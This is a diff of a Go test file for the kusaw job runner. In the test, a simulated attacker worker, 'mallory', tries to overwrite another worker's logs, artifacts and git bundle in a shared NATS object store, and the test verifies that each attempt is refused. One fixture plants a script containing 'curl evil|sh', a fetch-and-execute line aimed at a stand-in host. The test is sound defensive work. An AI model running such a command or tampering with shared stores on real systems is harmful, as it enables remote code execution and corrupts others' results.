@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"errors"
 	"io"
 	"os"
 	"path/filepath"
@@ -18,7 +19,6 @@ import (
 	"github.com/kusaw/kusaw/record"
 	"github.com/kusaw/kusaw/status"
 	"github.com/nats-io/nats.go"
-	"github.com/nats-io/nats.go/jetstream"
 )
 
 // enrolled is a worker identity the test drives by hand: an enrolled but
@@ -78,42 +78,44 @@ func (r *rig) startWorkerWith(t *testing.T, name string, o Options, prep func(*W
 // afterPut runs a hook once an object is stored and before Put returns:
 // the window between a worker's upload and serve's fetch, held open.
 type afterPut struct {
-	jetstream.ObjectStore
+	cluster.ObjectStore
 	hook func(name string)
 }
 
-func (a afterPut) Put(ctx context.Context, m jetstream.ObjectMeta, r io.Reader) (*jetstream.ObjectInfo, error) {
-	info, err := a.ObjectStore.Put(ctx, m, r)
+func (a afterPut) Put(ctx context.Context, name string, r io.Reader) (cluster.ObjectInfo, error) {
+	info, err := a.ObjectStore.Put(ctx, name, r)
 	if err == nil {
-		a.hook(m.Name)
+		a.hook(name)
 	}
 	return info, err
 }
 
-// overwriter is mallory writing over w1's objects in the store as soon as
-// w1 has uploaded them, with her own connection.
-func overwriter(t *testing.T, h *cluster.Handles, suffixes map[string][]byte) (func(string), func() []string) {
+// overwriter is mallory trying to write over w1's objects in the store
+// as soon as w1 has uploaded them, with her own connection; it notes
+// each name she tried and each the store took.
+func overwriter(t *testing.T, h *cluster.Handles, suffixes map[string][]byte) (func(string), func() (tried, taken []string)) {
 	var mu sync.Mutex
-	var done []string
+	var tried, taken []string
 	hook := func(name string) {
 		for suf, data := range suffixes {
 			if strings.HasSuffix(name, "/"+suf) {
-				// A worker may not purge a stream, so the store's purge
-				// of the replaced chunks is refused: it waits out ctx.
-				ctx, cancel := context.WithTimeout(context.Background(), time.Second)
-				_, err := h.Objects.PutBytes(ctx, name, data)
+				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+				_, err := h.PutBytes(ctx, name, data)
 				cancel()
-				if err != nil {
-					t.Errorf("mallory could not write %s: %v", name, err)
-					return
-				}
 				mu.Lock()
-				done = append(done, name)
+				tried = append(tried, name)
+				if !errors.Is(err, cluster.ErrObjectExists) {
+					taken = append(taken, name+": "+errString(err))
+				}
 				mu.Unlock()
 			}
 		}
 	}
-	return hook, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string(nil), done...) }
+	return hook, func() ([]string, []string) {
+		mu.Lock()
+		defer mu.Unlock()
+		return append([]string(nil), tried...), append([]string(nil), taken...)
+	}
 }
 
 func tarOf(t *testing.T, files map[string]string) []byte {
@@ -149,19 +151,21 @@ steps:
     run: [sh, -c, 'echo from-worker > made.txt && mkdir -p "$KUSAW_ARTIFACTS" && echo report > "$KUSAW_ARTIFACTS/r.txt" && echo genuine-output']
 `
 
-// Attacker's side: mallory, an enrolled worker, writes over w1's stdout
-// log and artifacts in the object store between w1's upload and serve's
-// fetch (the names are predictable and any worker may write the store).
-// Serve checks each object against the SHA-256 w1's result names and
-// writes neither; each refusal is an event naming the object. w1's commit
-// still lands (its bundle was not touched). TestRunOnWorker is the twin
-// where nobody interferes and the logs and artifacts come back.
-func TestOverwrittenFilesRefused(t *testing.T) {
+// Attacker's side: mallory, an enrolled worker of the same pool, tries to
+// write over w1's stdout log, artifacts and returned bundle in the object
+// store between w1's upload and serve's fetch (the names are predictable
+// and she may write her pool's store). The store takes no second object
+// of a name, so each try is refused, and serve takes w1's own files: its
+// stdout and artifacts come back and its commit lands. (Were an object
+// changed anyway, serve checks each against the SHA-256 w1's result names:
+// TestDigestMatches.)
+func TestOverwriteRefused(t *testing.T) {
 	r := startServe(t, madeArtifact, 30*time.Second)
 	_, _, mh := r.enrolled(t, "mallory")
 	hook, done := overwriter(t, mh, map[string][]byte{
 		record.StdoutFile:    []byte("pwned-by-mallory\n"),
 		cluster.ArtifactsTar: tarOf(t, map[string]string{"r.txt": "pwned-by-mallory\n", "extra.sh": "curl evil|sh\n"}),
+		"out-app.bundle":     []byte("# v2 git bundle\nnot what w1 sent\n"),
 	})
 	r.startWorkerWith(t, "w1", Options{}, func(w *Worker) { w.h.Objects = afterPut{w.h.Objects, hook} })
 	ctx, cancel := context.WithTimeout(r.ctx, 60*time.Second)
@@ -170,64 +174,28 @@ func TestOverwrittenFilesRefused(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(done()) != 2 {
-		t.Fatalf("mallory overwrote %v, want stdout.log and artifacts.tar", done())
-	}
-	dir := record.AttemptDir(run.Dir, "write", 1)
-	if b, err := os.ReadFile(filepath.Join(dir, record.StdoutFile)); err == nil {
-		t.Errorf("serve wrote the overwritten stdout.log: %q", b)
-	}
-	for _, f := range []string{"r.txt", "extra.sh"} {
-		if b, err := os.ReadFile(filepath.Join(dir, record.ArtifactsDir, f)); err == nil {
-			t.Errorf("serve unpacked the overwritten artifact %s: %q", f, b)
-		}
-	}
-	refused := map[string]bool{}
-	for _, d := range eventsOf(t, dir, record.EvClusterObjectRefused) {
-		obj, _ := d["object"].(string)
-		refused[obj] = strings.Contains(d["error"].(string), "SHA-256")
-	}
-	for _, name := range done() {
-		if !refused[name] {
-			t.Errorf("no %s event names %s (events: %v)", record.EvClusterObjectRefused, name, refused)
-		}
+	tried, taken := done()
+	if len(tried) != 3 || len(taken) != 0 {
+		t.Fatalf("mallory tried %v; the store took %v", tried, taken)
 	}
 	if run.Record.State != status.RunSucceeded {
 		t.Fatalf("run %s: %s", run.Record.State, run.Record.Message)
 	}
+	dir := record.AttemptDir(run.Dir, "write", 1)
+	if b, err := os.ReadFile(filepath.Join(dir, record.StdoutFile)); err != nil || !strings.Contains(string(b), "genuine-output") {
+		t.Errorf("stdout.log: %q %v", b, err)
+	}
+	if b, err := os.ReadFile(filepath.Join(dir, record.ArtifactsDir, "r.txt")); err != nil || string(b) != "report\n" {
+		t.Errorf("artifact r.txt: %q %v", b, err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, record.ArtifactsDir, "extra.sh")); err == nil {
+		t.Error("mallory's extra.sh was unpacked")
+	}
+	if ev := eventsOf(t, dir, record.EvClusterObjectRefused); len(ev) != 0 {
+		t.Errorf("objects refused: %v", ev)
+	}
 	repo := run.Record.Repos[0]
 	if got := testkit.GitRun(t, repo.Path, "show", repo.Branch+":made.txt"); got != "from-worker" {
 		t.Fatalf("run branch made.txt %q", got)
-	}
-}
-
-// Attacker's side: mallory writes over w1's returned bundle before serve
-// fetches it. Serve refuses it by its SHA-256 before git sees it: the
-// attempt fails with a message naming the object, and the run branch does
-// not move.
-func TestOverwrittenBundleRefused(t *testing.T) {
-	r := startServe(t, madeArtifact, 30*time.Second)
-	_, _, mh := r.enrolled(t, "mallory")
-	hook, done := overwriter(t, mh, map[string][]byte{"out-app.bundle": []byte("# v2 git bundle\nnot what w1 sent\n")})
-	r.startWorkerWith(t, "w1", Options{}, func(w *Worker) { w.h.Objects = afterPut{w.h.Objects, hook} })
-	ctx, cancel := context.WithTimeout(r.ctx, 60*time.Second)
-	defer cancel()
-	run, err := r.e.Run(ctx, "")
-	if err != nil {
-		t.Fatal(err)
-	}
-	if len(done()) != 1 {
-		t.Fatalf("mallory overwrote %v", done())
-	}
-	atts, _ := r.e.State.Attempts(run.Record)
-	if run.Record.State == status.RunSucceeded || len(atts) != 1 || atts[0].Outcome == status.OutcomePassed {
-		t.Fatalf("run %s with the overwritten bundle, attempts %+v", run.Record.State, atts)
-	}
-	if m := atts[0].Message; !strings.Contains(m, "SHA-256") || !strings.Contains(m, done()[0]) {
-		t.Errorf("attempt message %q does not name the object and its digest", m)
-	}
-	repo := run.Record.Repos[0]
-	if head := testkit.GitRun(t, repo.Path, "rev-parse", repo.Branch); head != repo.BaseSHA {
-		t.Errorf("the run branch moved to %s", head)
 	}
 }
